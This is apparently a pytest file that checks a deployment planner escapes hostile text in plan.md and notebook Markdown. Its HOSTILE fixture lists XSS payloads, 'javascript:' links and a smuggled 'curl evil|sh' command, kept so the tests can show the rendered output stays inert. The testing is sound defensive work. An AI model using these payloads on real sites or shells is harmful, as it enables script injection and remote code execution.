"""Markdown passages about a plan: complete, and safe with hostile text from the change.

Plan text is escaped by one rule in both media (``planner.render.text``): plan.md and the
notebook passages. The hostile strings are rendered by nbconvert's Markdown renderer, the one
the HTML reports use, which passes raw HTML and ``javascript:`` links through: what it renders
is what a reader would get.
"""

from __future__ import annotations

import dataclasses
from html.parser import HTMLParser

import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from planner.model import FileRisk, Plan, Step
from planner.render.markdown import render_markdown
from planner.render.text import code_span, plain_text, prose, single_line
from simulations.notebook import markdown

# one per way a string from the change could turn into markup
HOSTILE = (
    "x<img src=y onerror=alert(1)>.js",  # raw HTML
    "<script>alert(1)</script>",  # raw HTML block
    "<!-- hide --> <?php x ?> <![CDATA[x]]>",  # comment, processing instruction, CDATA
    "<javascript:alert(1)>",  # autolink
    "a`;curl evil|sh`b",  # backticks that would end a code span
    "```",  # a fence
    "a | b || c",  # table cell separators
    "__init__ and _private_ *bold*",  # emphasis
    "[click](javascript:alert(1)) ![i](x)",  # link and image
    "line\nbreak\r\n# heading\n- item",  # new blocks
    "&lt;b&gt; \\` \\",  # entities and backslash escapes
)


class _Rendered(HTMLParser):
    """The elements, attribute values and visible text of rendered HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [f"{name}={value}" for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


def _risky(attributes: list[str]) -> list[str]:
    """Attributes that load or run something, or link out (a heading's own anchor does not)."""
    return [a for a in attributes if a.startswith(("src=", "on", "href=")) and "=#" not in a]


def rendered(text: str) -> _Rendered:
    return _Rendered(markdown2html_mistune(text))


def test_change_markdown_names_feature_service_and_flag(plan: Plan) -> None:
    text = markdown.change_markdown(plan)
    assert "- **Feature**: checkout-v2" in text
    assert "- **Service**: `checkout`" in text
    assert "- **Feature flag**: `FEATURE_CHECKOUT_V2`" in text
    assert "- **Source**: change manifest" in text


def test_rollback_markdown_has_every_level_with_estimate_and_commands(plan: Plan) -> None:
    text = markdown.rollback_markdown(plan)
    for n, name, minutes in ((1, "Feature flag", 3), (2, "Configuration revert", 8)):
        assert f"### Level {n}: {name}" in text
        assert f"**Estimated {minutes} min**" in text
    assert "```sh\n   git revert --no-edit abc\n   ```" in text
    assert "- REVERT: `src/payments/charge.py`" in text


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_name_renders_as_exactly_its_own_text(hostile: str) -> None:
    shown = single_line(hostile).strip()
    words = rendered(plain_text(hostile))
    assert (words.tags, words.text.strip()) == (["p"], shown)
    code = rendered(code_span(hostile))
    assert (code.tags, code.text.strip()) == (["p", "code"], shown)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_planner_sentence_quoting_a_name_keeps_its_code_spans_and_gains_no_html(
    hostile: str,
) -> None:
    page = rendered(prose(f"Disable `FLAG` for {hostile}, then check `{hostile}`"))
    # emphasis is the most a name can add to a sentence: no element, link, image or block
    assert set(page.tags) <= {"p", "code", "em", "strong"}
    assert page.tags.count("p") == 1 and page.attributes == []
    assert page.text.startswith("Disable FLAG for ")


def hostile_plan(plan: Plan, evil: str) -> Plan:
    """``plan`` with ``evil`` as its feature, thresholds source, a deleted file, a step, a
    trigger and a failure mode: text both media show."""
    level = dataclasses.replace(
        plan.rollback.levels[0],
        steps=(Step(action=f"Delete {evil}", command="echo ```done```"),),
    )
    rollback = dataclasses.replace(
        plan.rollback,
        levels=(level, *plan.rollback.levels[1:]),
        files=dataclasses.replace(plan.rollback.files, delete=(evil,)),
        triggers=dataclasses.replace(plan.rollback.triggers, immediate=(f"Users see {evil}",)),
    )
    modes = (dataclasses.replace(plan.failure_modes[0], scenario=f"{evil} breaks"),)
    files = (FileRisk(path=evil, change="added", level="HIGH", reasons=(f"path {evil}",)),)
    return dataclasses.replace(
        plan,
        change=dataclasses.replace(plan.change, feature=evil),
        thresholds_source=evil,
        rollback=rollback,
        failure_modes=modes,
        risk=dataclasses.replace(plan.risk, files=files),
    )


def notebook_markdown(plan: Plan) -> str:
    return "\n\n".join(
        f(plan)
        for f in (
            markdown.change_markdown,
            markdown.failure_modes_markdown,
            markdown.triggers_markdown,
            markdown.rollback_markdown,
        )
    )


@pytest.mark.parametrize("hostile", HOSTILE)
def test_plan_md_and_the_notebook_escape_plan_text_the_same_way_and_render_it_inert(
    plan: Plan, hostile: str
) -> None:
    evil = hostile_plan(plan, hostile)
    media = {"plan.md": render_markdown(evil), "notebook": notebook_markdown(evil)}
    for name, text in media.items():
        # the same escaped form in both: a name as words, a path as code, a planner sentence
        assert plain_text(hostile) in text, name
        assert code_span(hostile) in text, name
        assert prose(f"Users see {hostile}") in text, name
    plain = {"plan.md": render_markdown(plan), "notebook": notebook_markdown(plan)}
    for name, text in media.items():
        page, usual = rendered(text), rendered(plain[name])
        # hostile text adds no kind of element but emphasis, no link out and no handler
        assert set(page.tags) <= set(usual.tags) | {"em", "strong"}, name
        assert _risky(page.attributes) == _risky(usual.attributes) == [], name


def test_a_command_with_a_backtick_run_gets_a_longer_fence(plan: Plan) -> None:
    text = markdown.rollback_markdown(hostile_plan(plan, "x"))
    assert "````sh\n   echo ```done```\n   ````" in text


def test_events_markdown_lists_times_and_events() -> None:
    text = markdown.events_markdown([(0.0, "stage", "Canary 10%"), (75.5, "detected", "")])
    assert text.splitlines() == ["- **0.0 min** stage Canary 10%", "- **75.5 min** detected "]
    assert markdown.events_markdown([]) == "No events."
